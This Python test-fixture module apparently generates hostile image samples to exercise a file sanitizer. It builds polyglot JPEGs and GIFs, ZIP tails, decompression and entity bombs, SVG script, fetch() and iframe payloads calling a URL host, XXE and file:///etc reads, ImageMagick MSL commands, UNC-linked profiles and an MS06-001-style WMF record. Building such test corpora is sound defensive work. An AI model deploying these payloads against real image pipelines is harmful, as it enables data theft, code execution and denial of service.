"""Pictures: metadata, tails, bombs, and drawings with commands."""
import io, struct, zlib

from PIL import Image

from . import either, refused, threat, unc, url


def image(format, frames=1, **more):
    pictures = [Image.new("RGB", (32, 24), (200 - 20 * n, 90, 40)) for n in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, format, **({"save_all": True, "append_images": pictures[1:]} if frames > 1 else {}), **more)
    return out.getvalue()


def shot(format, id, ja, build, **more):
    threat(format, id, ja, lambda live, keep: build(live), keep=False, **more)


def exif(live):
    tags = Image.Exif()
    tags[0x010E] = tags[0x013B] = tags[0x8298] = tags[0x9C9C] = live
    tags.get_ifd(0x8825)[1] = "N"
    tags.get_ifd(0x8825)[2] = (33.0, 15.0, 51.0)
    tags.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + live.encode()
    return tags.tobytes()


def segment(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg(*segments, tail=b""):
    plain = image("JPEG")
    return plain[:2] + b"".join(segments) + plain[2:] + tail


XMP = lambda live: f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:source="{live}"/></rdf:RDF></x:xmpmeta>'.encode()
shot("jpg", "exif", "EXIF（撮影位置、作者、コメント）", lambda live: image("JPEG", exif=exif(live)))
shot("jpg", "xmp", "XMP", lambda live: jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + XMP(live))))
shot("jpg", "comment", "コメント（PHP・スクリプト）", lambda live: jpeg(segment(0xFE, f"<?php {live} ?><script>{live}</script>".encode())))
shot("jpg", "icc", "ICC プロファイル", lambda live: jpeg(segment(0xE2, b"ICC_PROFILE\0\1\1" + live.encode() * 20)))
shot("jpg", "photoshop", "APP13（Photoshop）・未知の APP", lambda live: jpeg(segment(0xED, b"Photoshop 3.0\0" + live.encode()), segment(0xE9, live.encode()), segment(0xE2, b"MPF\0" + live.encode())))
shot("jpg", "tail", "末尾の ZIP・プログラム", lambda live: jpeg(tail=b"PK\x03\x04" + live.encode() * 9))
shot("jpg", "script-polyglot", "JavaScript としても読める JPEG", lambda live: jpeg(segment(0xFE, f"*/=1;fetch('{live}');/*".encode())))
shot("jpg", "thumbnail", "縮小画像に隠したデータ", lambda live: jpeg(segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\0\0" + b"\0\0\0\0" + image("JPEG")[:40] + live.encode())))
either("jpg", "cut", "途中で切れた JPEG", lambda live, keep: image("JPEG")[:-80] + live.encode(), keep=False)


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(*chunks, tail=b"", late=b""):
    plain = image("PNG")
    return plain[:33] + b"".join(chunks) + plain[33:-12] + late + plain[-12:] + tail


shot("png", "text", "文字情報（tEXt、zTXt、iTXt）", lambda live: png(chunk(b"tEXt", b"Comment\0" + live.encode()), chunk(b"zTXt", b"c\0\0" + zlib.compress(live.encode())), chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP(live))))
shot("png", "profile-and-exif", "ICC・EXIF", lambda live: png(chunk(b"iCCP", b"p\0\0" + zlib.compress(live.encode() * 9)), chunk(b"eXIf", exif(live)[6:])))
shot("png", "unknown-chunk", "未知のチャンク", lambda live: png(chunk(b"evIl", live.encode()), late=chunk(b"prVt", live.encode())))
shot("png", "tail", "末尾のデータ（切り抜き前の画素など）", lambda live: png(tail=image("PNG")[60:] + live.encode()))
shot("png", "text-bomb", "文字情報の爆弾", lambda live: png(chunk(b"zTXt", b"c\0\0" + zlib.compress(bytes(64 << 20)) + live.encode())))
refused("png", "pixel-bomb", "画素数の爆弾", lambda live, keep: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"tEXt", b"a\0" + live.encode()) + chunk(b"IEND", b""))
either("png", "wrong-crc", "CRC の不一致", lambda live, keep: png(struct.pack(">I", 4) + b"tEXt" + b"a\0bc" + b"\0\0\0\0", tail=live.encode()), keep=False)
shot("gif", "comment", "コメント・アプリ拡張・文字拡張", lambda live: gif(b"\x21\xfe" + block(live.encode()) + b"\0", b"\x21\xff\x0bXMP DataXMP" + block(XMP(live)) + b"\0", b"\x21\x01\x0c" + bytes(12) + block(live.encode()) + b"\0"))
shot("gif", "tail", "末尾の Java 書庫（GIFAR）", lambda live: image("GIF") + b"PK\x03\x04" + live.encode() * 3)
shot("gif", "script-polyglot", "JavaScript としても読める GIF", lambda live: gif(b"\x21\xfe" + block(f"*/=1;alert('{live}');/*".encode()) + b"\0"))
either("gif", "frame-bomb", "コマ数の爆弾", lambda live, keep: frames(live), keep=False)
shot("bmp", "tail", "末尾のデータ", lambda live: image("BMP") + live.encode() * 9)
shot("bmp", "linked-profile", "UNC 先のカラープロファイル（PROFILE_LINKED）", lambda live: linked_bmp(live))
shot("tif", "tags", "説明・作者・XMP・独自タグ", lambda live: image("TIFF", tiffinfo={270: live, 315: live, 33432: live, 700: XMP(live), 65000: live}))
shot("tif", "two-pages", "2 ページ目に隠した付帯情報", lambda live: image("TIFF", 2, tiffinfo={270: live}))
either("tif", "loop", "循環する IFD", lambda live, keep: loop(live), keep=False)
shot("webp", "metadata", "EXIF・XMP・ICC", lambda live: image("WEBP", exif=exif(live), xmp=XMP(live), icc_profile=live.encode() * 9))
shot("webp", "unknown-chunk", "未知のチャンク・末尾のデータ", lambda live: webp(live))
either("avif", "metadata", "AVIF の EXIF", lambda live, keep: image("AVIF", exif=exif(live)), keep=False)
either("jp2", "tail", "JPEG 2000 の末尾のデータ", lambda live, keep: image("JPEG2000") + live.encode() * 4, keep=False)
either("ico", "tail", "アイコンの末尾のデータ", lambda live, keep: image("ICO") + live.encode() * 4, keep=False)
either("psd", "resources", "PSD の付帯情報", lambda live, keep: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 1, 1, 8, 3) + bytes(4) + struct.pack(">I", len(live)) + live.encode(), keep=False)

SVG = [
    ("script", "script 要素・イベント", "<script>fetch('{u}')</script><rect width='9' height='9' onclick='{l}' onload='{l}'/>"), ("foreign-object", "foreignObject（HTML）", "<foreignObject width='99' height='99'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{u}'/></foreignObject>"),
    ("external-image", "外部画像・use", "<image href='{u}.png' width='9' height='9'/><use href='{u}.svg#x'/><image xlink:href='file:///etc/{l}' width='9' height='9'/>"), ("stylesheet", "外部スタイル（@import、url）", "<style>@import url({u}); rect{fill:url({u}#a)} @font-face{font-family:x;src:url({u})}</style><rect width='9' height='9' style='fill:url({u}#b)'/>"),
    ("animate", "リンク先を変えるアニメーション", "<a xlink:href='javascript:{l}'><text>x</text><animate attributeName='xlink:href' to='javascript:{l}'/><set attributeName='onclick' to='{l}'/></a>"), ("data-html", "data: の HTML・入れ子の SVG", "<image href='data:image/svg+xml;utf8,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;script&gt;{l}&lt;/script&gt;&lt;/svg&gt;' width='9' height='9'/><a href='data:text/html,{l}'><text>x</text></a>"),
    ("handler", "handler・listener（SVG Tiny）", "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{l}</handler><metadata>{l}</metadata><desc>{l}</desc>"), ("filter", "外部フィルター・マスク・カーソル", "<rect width='9' height='9' filter='url({u}#f)' mask='url({u}#m)' cursor='url({u})'/><filter id='f'><feImage href='{u}'/></filter>"),
]
for id, ja, body in SVG:
    threat("svg", id, f"SVG の{ja}", lambda live, keep, b=body: svg(keep, b.replace("{l}", live).replace("{u}", url(live))), keep=False)
either("svg", "xxe", "SVG の外部実体", lambda live, keep: f'<?xml version="1.0"?><?xml-stylesheet href="{url(live)}"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{url(live)}">]>'.encode() + svg(keep, "<text>&e;</text>"), keep=False)
either("svg", "entity-bomb", "SVG の実体爆弾", lambda live, keep: ('<!DOCTYPE svg [<!ENTITY a0 "' + live + '">' + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 10)) + "]>").encode() + svg(keep, "<text>&a9;</text>"), keep=False)
either("svg", "use-bomb", "use の爆弾", lambda live, keep: svg(keep, f"<desc>{live}</desc><defs><g id='g0'><rect width='1' height='1'/></g>" + "".join(f"<g id='g{n}'>" + f"<use href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 12)) + "</defs><use href='#g11'/>"), keep=False)
either("svg", "msl-polyglot", "ImageMagick の命令（MSL）", lambda live, keep: f'<?xml version="1.0"?><image xmlns="http://www.w3.org/2000/svg"><read filename="{unc(live)}"/><write filename="/tmp/{live}"/></image>'.encode(), keep=False)
either("svgz", "script", "圧縮 SVG のスクリプト", lambda live, keep: __import__("gzip").compress(svg(keep, f"<script>{live}</script>")), keep=False)


def svg(keep, body):
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" viewBox="0 0 200 100"><rect x="1" y="1" width="90" height="40" fill="#369"/><text x="9" y="60">{keep}</text>{body}</svg>'.encode()


# Metafiles.
def emf(live):
    """A rectangle, a comment with a payload, an escape and a named escape."""
    record = lambda kind, data: struct.pack("<II", kind, 8 + len(data) + -len(data) % 4) + data + b"\0" * (-len(data) % 4)
    note = b"EMF+" + live.encode()
    body = record(43, struct.pack("<iiii", 10, 10, 90, 50)) + record(70, struct.pack("<I", len(note)) + note) + record(105, struct.pack("<II", 9, len(live)) + live.encode()) + record(110, struct.pack("<III", 0, 4, len(live)) + b"evil" + live.encode())
    body += record(14, struct.pack("<III", 0, 16, 20))
    head = struct.pack("<iiii", 0, 0, 100, 60) + struct.pack("<iiii", 0, 0, 2600, 1600) + b" EMF" + struct.pack("<IIIHHIIIII", 0x10000, 88 + len(body), 6, 1, 0, 0, 0, 0, 1024, 768)[:32] + struct.pack("<II", 320, 240)
    return record(1, head[:80].ljust(80, b"\0")) + body


def wmf(live):
    """SETABORTPROC (the shape of MS06-001) and a rectangle."""
    record = lambda function, data: struct.pack("<IH", (6 + len(data) + len(data) % 2) // 2, function) + data + b"\0" * (len(data) % 2)
    body = record(0x020B, struct.pack("<hh", 0, 0)) + record(0x020C, struct.pack("<hh", 100, 100)) + record(0x0626, struct.pack("<HH", 9, len(live)) + live.encode()) + record(0x041B, struct.pack("<hhhh", 50, 90, 10, 10)) + record(0, b"")
    head = struct.pack("<HHHIHIH", 1, 9, 0x300, (18 + len(body)) // 2, 0, 40, 0)
    place = struct.pack("<IHhhhhHI", 0x9AC6CDD7, 0, 0, 0, 100, 100, 96, 0)
    total = 0
    for (word,) in struct.iter_unpack("<H", place):
        total ^= word
    return place + struct.pack("<H", total) + head + body


threat("emf", "comment-and-escape", "EMF のコメント・拡張命令", lambda live, keep: emf(live), keep=False)
threat("wmf", "abort-procedure", "WMF の SETABORTPROC（MS06-001 型）", lambda live, keep: wmf(live), keep=False)
either("emf", "overflow", "記録長を偽った EMF", lambda live, keep: emf(live)[:100] + b"\xff\xff\xff\x7f" * 8 + live.encode(), keep=False)


def block(data):
    return b"".join(bytes([len(data[n:n + 255])]) + data[n:n + 255] for n in range(0, len(data), 255))


def gif(*extensions):
    plain = image("GIF")
    place = 13 + (3 << (plain[10] & 7) + 1)
    return plain[:place] + b"".join(extensions) + plain[place:]


def frames(live):
    plain = image("GIF")
    place = 13 + (3 << (plain[10] & 7) + 1)
    return plain[:place] + plain[place:-1] * 20000 + b"\x21\xfe" + block(live.encode()) + b"\0;"


def linked_bmp(live):
    pixels, profile = bytes(32 * 3 * 24), unc(live).encode() + b"\0"
    header = struct.pack("<IiiHHIIiiII", 124, 32, 24, 1, 24, 0, len(pixels), 0, 0, 0, 0) + bytes(16) + b"KNIL" + bytes(48) + struct.pack("<IIII", 4, 124 + len(pixels), len(profile), 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(header) + len(pixels) + len(profile), 0, 0, 14 + len(header)) + header + pixels + profile


def loop(live):
    plain = bytearray(image("TIFF"))
    place = struct.unpack("<I", plain[4:8])[0]
    count = struct.unpack("<H", plain[place:place + 2])[0]
    plain[place + 2 + 12 * count:place + 6 + 12 * count] = struct.pack("<I", place)
    return bytes(plain) + live.encode()


def webp(live):
    plain = image("WEBP", exif=b"x")
    extra = b"eVIL" + struct.pack("<I", len(live) + len(live) % 2) + live.encode() + b"\0" * (len(live) % 2)
    return plain[:4] + struct.pack("<I", len(plain) - 8 + len(extra)) + plain[8:] + extra + live.encode()
